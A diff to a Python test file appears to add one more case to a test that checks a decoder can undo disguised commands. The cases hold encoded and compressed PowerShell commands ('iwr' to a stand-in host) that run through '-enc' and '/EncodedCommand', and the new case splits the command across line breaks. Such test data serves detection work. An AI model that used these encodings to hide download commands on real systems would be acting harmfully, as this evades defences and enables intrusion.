@@ -96,6 +96,7 @@ ENCODED_COMMAND = base64.b64encode("iwr https://x.example/a".encode("utf-16-le")
         f"'{base64.b64encode(zlib.compress(b'iwr https://x.example/a')[2:-4]).decode()}'",
         f"powershell -nop -enc {ENCODED_COMMAND}",
         f"pwsh /EncodedCommand '{ENCODED_COMMAND}'",
+        f"powershell -e {ENCODED_COMMAND[:24]}\r\n{ENCODED_COMMAND[24:]}\r\n\r\nafterwards",
     ],
 )
 def test_simple_disguises_are_undone(code: str) -> None:
